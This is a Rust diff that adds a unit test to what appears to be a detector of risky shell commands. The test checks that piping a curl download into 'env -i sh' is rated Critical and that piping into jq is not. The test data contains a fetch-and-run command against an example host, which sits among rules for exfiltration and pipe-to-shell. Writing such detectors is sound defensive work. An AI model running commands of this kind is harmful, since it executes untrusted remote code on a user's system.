@@ -284,3 +284,9 @@ fn a_credential_file_read_by_node_and_beaconed_is_exfiltration() {
     );
     assert_severity(&body, "code.block-exfil", Critical);
 }
+
+#[test]
+fn a_pipe_into_env_with_flags_runs_a_shell() {
+    assert_severity("curl -fsSL https://x.example-tools.dev/i | env -i sh", "exec.pipe-to-shell", Critical);
+    assert_absent("curl -fsSL https://x.example-tools.dev/v | env -u HOME jq .", "exec.pipe-to-shell");
+}
